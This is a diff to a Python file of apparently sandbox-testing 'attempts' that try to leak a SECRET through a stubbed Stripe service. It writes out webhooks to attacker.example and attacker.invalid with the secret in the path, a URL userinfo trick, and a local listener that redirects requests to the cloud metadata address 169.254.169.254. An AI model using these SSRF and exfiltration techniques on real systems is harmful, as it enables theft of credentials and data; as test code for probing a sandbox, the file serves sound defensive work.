@@ -1,11 +1,13 @@
 """Attempts by meaning: allowed-looking hosts, stubbed services and the record itself turned against their owner."""
 
 import concurrent.futures
+import http.server
 import json
 import smtplib
 import socket
 import ssl
 import sys
+import time
 import urllib.error
 import urllib.parse
 import urllib.request
@@ -51,6 +53,31 @@ def a_webhook_in_a_stubs_field() -> object:
         "POST", "webhook_endpoints", url=f"https://attacker.example/{SECRET}", **{"enabled_events[]": "*"}
     )
     return [created, stripe("POST", "customers", email="a@example.com")[0]]
+
+
+@attempt
+def webhooks_inside() -> object:
+    """To a listener in here, which sends whoever asks on to the metadata address; and to what is no plain URL."""
+    heard = []
+
+    class Hook(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            heard.append(f"POST {self.path}")
+            self.send_response(302)
+            self.send_header("Location", f"http://169.254.169.254/redirected/{SECRET}")
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with http.server.HTTPServer(("127.0.0.1", 4244), Hook) as server:
+        server.timeout = 10
+        for url in ("http://localhost:4244/hook", f"http://localhost:4244@attacker.invalid/{SECRET}"):
+            stripe("POST", "webhook_endpoints", url=url, **{"enabled_events[]": "product.created"})
+        stripe("POST", "products", name="a product")
+        server.handle_request()
+    time.sleep(0.5)  # for the outcome to be recorded
+    return heard
 
 
 @attempt
